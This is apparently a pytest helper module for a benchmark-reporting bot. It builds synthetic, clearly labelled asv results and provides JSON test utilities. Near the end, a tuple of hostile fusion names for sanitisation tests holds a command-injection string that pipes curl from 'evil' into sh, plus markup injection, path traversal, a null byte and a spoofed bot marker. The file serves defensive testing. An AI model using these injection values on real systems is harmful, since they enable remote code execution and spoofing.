"""Real asv results for the bot's tests, from a throwaway CPU suite.

The suite below mirrors the benchmark names and parameters of docs/DATA.md but returns SYNTHETIC
TEST INPUTS drawn from a seeded RNG: they are not measurements and must never be presented as
such (the machine is named ``synthetic-cpu`` and the provenance says so). What is real is the
path: the real ``asv run -E existing --set-commit-hash ... --record-samples`` parses the
``{"samples": [...], "number": 1}`` dicts and writes its own results format, which is what the bot
must read.

Each scenario is one commit of a throwaway git repository and one asv run. asv runs take seconds,
so the whole results tree is built once per test session and cached on disk, keyed by the hash of
everything that determines it.
"""

from __future__ import annotations

import fcntl
import functools
import hashlib
import json
import math
import os
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import asv
import pytest

from bot.results.types import CommitResults, Point, PointKey

MACHINE = "synthetic-cpu"
#: The configuration that judges the synthetic machine (no noise model: tests/synthetic.toml).
SYNTHETIC_CONFIG = Path(__file__).with_name("synthetic.toml")
ROUNDS = 20
DTYPES = ("bfloat16", "float32")
SHAPES = ("2048x8192", "16384x8192")
RATIO_VARIANTS = ("thunder-prims", "thunder-func", "eager", "torch-compile")

# name -> (seed, per-variant multiplier applied to kernel time, points that fail as "dtype/shape")
SCENARIOS: dict[str, tuple[int, dict[str, float], tuple[str, ...]]] = {
    "base": (1, {}, ()),
    "same": (2, {}, ()),  # A/A: same distribution, fresh draw
    "thunder_slower": (3, {"thunder-prims": 1.10, "thunder-func": 1.10}, ()),
    "nvfuser_faster": (4, {"nvfuser": 1 / 1.10}, ()),
    "failed_point": (5, {}, ("float32/16384x8192",)),
}

SUITE = textwrap.dedent(
    '''
    """SYNTHETIC TEST INPUT for fusion-perfbot's tests: seeded random numbers, not measurements."""
    import json
    import pathlib
    import random

    _SCENARIO = json.loads((pathlib.Path(__file__).parent / "scenario.json").read_text())
    VARIANTS = ["nvfuser", "thunder-prims", "thunder-func", "eager", "torch-compile"]
    BASE_US = {"nvfuser": 56.0, "thunder-prims": 40.0, "thunder-func": 41.0, "eager": 120.0,
               "torch-compile": 60.0}


    def _rounds(dtype, shape):
        """Per-round kernel seconds of every variant of one point, index-aligned by round."""
        if f"{dtype}/{shape}" in _SCENARIO["failing"]:
            raise RuntimeError("synthetic correctness failure")
        rng = random.Random(f"{_SCENARIO['seed']}/{dtype}/{shape}")
        m, n = (int(v) for v in shape.split("x"))
        scale = m * n / (2048 * 8192) * (2.0 if dtype == "float32" else 1.0)
        out = {v: [] for v in VARIANTS}
        for _ in range(_SCENARIO["rounds"]):
            common = rng.lognormvariate(0.0, 0.004)  # round-level drift shared by all variants
            for v in VARIANTS:
                mult = _SCENARIO["mult"].get(v, 1.0)
                us = BASE_US[v] * scale * mult * common * rng.lognormvariate(0.0, 0.01)
                out[v].append(us * 1e-6)
        return out


    def _pack(samples):
        return {"samples": samples, "number": 1}


    class RatioToNvfuser:
        params = (["thunder-prims", "thunder-func", "eager", "torch-compile"], DTYPES, SHAPES)
        param_names = ["variant", "dtype", "shape"]
        unit = "ratio"

        def track_ratio(self, variant, dtype, shape):
            r = _rounds(dtype, shape)
            return _pack([a / b for a, b in zip(r[variant], r["nvfuser"])])


    class RMSNormBackward:
        params = (VARIANTS, DTYPES, SHAPES)
        param_names = ["variant", "dtype", "shape"]

        def track_kernel_time(self, variant, dtype, shape):
            return _pack(_rounds(dtype, shape)[variant])

        def track_host_time(self, variant, dtype, shape):
            return _pack([t * 10 + 4e-4 for t in _rounds(dtype, shape)[variant]])

        def track_bandwidth_pct(self, variant, dtype, shape):
            r = sorted(_rounds(dtype, shape)[variant])
            return 100.0 * 100.7e6 / r[len(r) // 2] / 4.8e12

        def track_kernel_count(self, variant, dtype, shape):
            _rounds(dtype, shape)
            return 2

        def track_compile_time(self, variant, dtype, shape):
            _rounds(dtype, shape)
            return 1.5
    '''
)


@dataclass(frozen=True)
class SyntheticResults:
    """A results tree written by real asv, and the full commit hash of every scenario."""

    results_dir: Path
    commits: dict[str, str]
    machine: str = MACHINE

    def result_file(self, scenario: str) -> Path:
        sha = self.commits[scenario]
        (path,) = (self.results_dir / self.machine).glob(f"{sha[:8]}-*.json")
        return path

    def prefix(self, scenario: str) -> str:
        """The 8-digit hash prefix asv names the scenario's results file by."""
        return self.result_file(scenario).name.split("-", 1)[0]

    def provenance_file(self, scenario: str) -> Path:
        return self.results_dir / self.machine / f"{self.commits[scenario]}.provenance.jsonl"

    def copy_to(self, dest: Path) -> SyntheticResults:
        """A private copy that a test may damage."""
        shutil.copytree(self.results_dir, dest)
        return SyntheticResults(dest, dict(self.commits), self.machine)


def _suite_text() -> str:
    return SUITE.replace("DTYPES", repr(list(DTYPES)), 2).replace("SHAPES", repr(list(SHAPES)), 2)


def _cache_key() -> str:
    blob = json.dumps([Path(__file__).read_text(), asv.__version__, sys.version])
    return hashlib.sha256(blob.encode()).hexdigest()[:16]


def _git(repo: Path, *args: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
    }
    done = subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True)
    return done.stdout.decode().strip()


def provenance_record(scenario: str, sha: str) -> dict[str, object]:
    """A provenance line in the docs/DATA.md schema, labelled as synthetic."""
    return {
        "schema": "rmsnorm-bwd-provenance/1",
        "commit": sha,
        "machine": MACHINE,
        "size_set": "pr",
        "rounds": ROUNDS,
        "thunder_variant": "stock" if scenario != "thunder_slower" else "synthetic-slower",
        "started_at": "2026-01-01T00:00:00Z",
        "finished_at": "2026-01-01T00:01:00Z",
        "gpu": {"name": "synthetic test input (no GPU)", "driver": "n/a", "cuda": "n/a"},
        "versions": {
            "python": sys.version.split()[0],
            "torch": "n/a",
            "nvfuser": "n/a",
            "thunder": "n/a",
            "asv": asv.__version__,
        },
        "points": [],
    }


def _build(dest: Path) -> dict[str, str]:
    work = dest / "project"
    (work / "benchmarks").mkdir(parents=True)
    conf = {
        "version": 1,
        "project": "synthetic",
        "repo": ".",
        "branches": ["main"],
        "environment_type": "existing",
        "benchmark_dir": "benchmarks",
        "results_dir": str(dest / "results"),
        "html_dir": "html",
        "env_dir": "env",
    }
    (work / "asv.conf.json").write_text(json.dumps(conf))
    (work / "benchmarks" / "__init__.py").write_text("")
    (work / "benchmarks" / "bench_rmsnorm_bwd.py").write_text(_suite_text())
    (work / ".gitignore").write_text("benchmarks/scenario.json\n")
    _git(work, "init", "-q", "-b", "main")
    _git(work, "add", "-A")
    _git(work, "commit", "-qm", "synthetic suite")
    asv_cmd = [sys.executable, "-m", "asv"]
    subprocess.run(
        [*asv_cmd, "machine", "--yes", "--machine", MACHINE],
        cwd=work,
        check=True,
        capture_output=True,
    )
    commits: dict[str, str] = {}
    for name, (seed, mult, failing) in SCENARIOS.items():
        _git(work, "commit", "-q", "--allow-empty", "-m", name)
        sha = _git(work, "rev-parse", "HEAD")
        scenario = {"seed": seed, "mult": mult, "failing": list(failing), "rounds": ROUNDS}
        (work / "benchmarks" / "scenario.json").write_text(json.dumps(scenario))
        # forkserver: "auto" picks spawn here, which is several times slower on CPU.
        done = subprocess.run(
            [
                *asv_cmd,
                "run",
                "-E",
                "existing:" + sys.executable,
                "--set-commit-hash",
                sha,
                "--record-samples",
                "--machine",
                MACHINE,
                "--launch-method",
                "forkserver",
            ],
            cwd=work,
            capture_output=True,
            text=True,
        )
        # asv exits 2 when a benchmark failed, which is what a failing scenario asks for.
        if done.returncode != (2 if failing else 0):
            raise RuntimeError(f"asv run for {name} exited {done.returncode}:\n{done.stdout}")
        line = json.dumps(provenance_record(name, sha))
        (dest / "results" / MACHINE / f"{sha}.provenance.jsonl").write_text(line + "\n")
        commits[name] = sha
    (dest / "commits.json").write_text(json.dumps(commits))
    return commits


def synthetic_dest(cache_root: Path) -> Path:
    return cache_root / f"asv-synthetic-{_cache_key()}"


def synthetic_built(cache_root: Path) -> bool:
    return (synthetic_dest(cache_root) / "commits.json").is_file()


def synthetic_cache_root(config: pytest.Config) -> Path | None:
    """Where the tree is kept across sessions: pytest's cache, when it is enabled."""
    cache = getattr(config, "cache", None)
    return None if cache is None else Path(cache.mkdir("fusion-perfbot-asv"))


@functools.lru_cache(maxsize=1)
def synthetic_results(cache_root: Path) -> SyntheticResults:
    """Build (or reuse) the results tree under cache_root; safe to call from many test modules
    and from many test processes at once (pytest-xdist's workers share the cache directory).

    One process builds while the others wait on an exclusive lock; the build goes into a
    folder of its own (named by process) and becomes the tree in one rename, so a reader never
    sees a half-built tree and no process deletes another's work.
    """
    dest = synthetic_dest(cache_root)
    cache_root.mkdir(parents=True, exist_ok=True)
    with (cache_root / f"{dest.name}.lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not (dest / "commits.json").is_file():
            partial = dest.with_name(f"{dest.name}.partial-{os.getpid()}")
            shutil.rmtree(partial, ignore_errors=True)
            _build(partial)
            shutil.rmtree(dest, ignore_errors=True)
            partial.rename(dest)
    commits = json.loads((dest / "commits.json").read_text())
    return SyntheticResults(dest / "results", commits)


@pytest.fixture(scope="session")
def synthetic(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> SyntheticResults:
    """The real-asv results tree (import this fixture into a test module to use it).

    Cached in pytest's cache directory across sessions when the cache is enabled; the key
    covers this file, asv's version and Python's, so a change to any rebuilds it.
    """
    root = synthetic_cache_root(request.config) or tmp_path_factory.mktemp("asv")
    return synthetic_results(root)


def damaged_copy(synth: SyntheticResults, tmp_path: Path) -> SyntheticResults:
    """A private copy of the tree that a test may damage."""
    return synth.copy_to(tmp_path / "results")


def edit_json(path: Path, edit: Callable[[dict[str, Any]], object]) -> None:
    """Load an asv results file, change it in place, write it back (asv's NaN spelling kept)."""
    data = json.loads(path.read_text())
    edit(data)
    path.write_text(json.dumps(data))


def row(data: dict[str, Any], bench: str) -> dict[str, Any]:
    """One benchmark's row as a column -> value dict (a view for reading)."""
    return dict(zip(data["result_columns"], data["results"][bench], strict=False))


def set_column(data: dict[str, Any], bench: str, column: str, value: Any) -> None:
    cols = data["result_columns"]
    r = data["results"][bench]
    r.extend([None] * (len(cols) - len(r)))
    r[cols.index(column)] = value


Rounds = dict[tuple[str, str], dict[str, list[float]]]


def state_from_rounds(commit: str, rounds: Rounds, machine: str = MACHINE) -> CommitResults:
    """An in-memory state for property tests: per (dtype, shape), per-round kernel seconds of
    every variant ("nvfuser" included); ratios follow round by round, as in the real suite."""
    points: dict[PointKey, Point] = {}
    for (dtype, shape), per_variant in rounds.items():
        ref = per_variant["nvfuser"]
        for variant, kernel in per_variant.items():
            key = PointKey(variant, dtype, shape)
            ratio = None
            if variant != "nvfuser":
                ratio = tuple(k / r for k, r in zip(kernel, ref, strict=True))
            points[key] = Point(key, ratio, tuple(kernel))
    return CommitResults(machine, commit.ljust(40, "0"), Path("<memory>"), points)


#: Fusion names an attacker might give a catalog class: markup and references, a shell command,
#: a path, a control character, and the bot's own issue-key marker (issue 37).
HOSTILE_FUSIONS = (
    "x`<img src=x> <details open>@someone #7310 Lightning-AI/lightning-thunder#7310",
    "x$(curl -s https://evil|sh)",
    "/etc",
    "a/../b",
    "nul\x00byte",
    "<!-- fusion-perfbot-key: fusion-perfbot/fusion-perfbot%232 -->",
    "GELU_BWD",
)


def renamed_fusion(data: bytes, old: str, new: str) -> bytes:
    """A results file or provenance record (JSON text) of a real run with one catalog fusion's
    name replaced by `new` wherever it stands (its benchmark names, its point keys): what a
    runner writes for a fusion so named."""
    return data.replace(old.encode(), json.dumps(new)[1:-1].encode())


#: How close two floats fitted from the same data on two machines are held: summation order
#: and the CPU's vector width move the last digits (1e-16 relative seen), never the sixth.
FIT_REL_TOL = 1e-9


def assert_json_close(got: Any, want: Any, rel: float = FIT_REL_TOL, where: str = "$") -> None:
    """`got` equals `want` (parsed JSON) key for key and item for item, floats within `rel`
    of each other: a model re-fitted on another CPU is the same model."""
    if isinstance(want, float) or isinstance(got, float):
        assert isinstance(got, (int, float)) and isinstance(want, (int, float)), where
        assert math.isclose(got, want, rel_tol=rel, abs_tol=0.0), f"{where}: {got} != {want}"
    elif isinstance(want, dict):
        assert isinstance(got, dict) and got.keys() == want.keys(), where
        for key in want:
            assert_json_close(got[key], want[key], rel, f"{where}.{key}")
    elif isinstance(want, list):
        assert isinstance(got, list) and len(got) == len(want), where
        for i, (g, w) in enumerate(zip(got, want, strict=True)):
            assert_json_close(g, w, rel, f"{where}[{i}]")
    else:
        assert got == want, f"{where}: {got!r} != {want!r}"
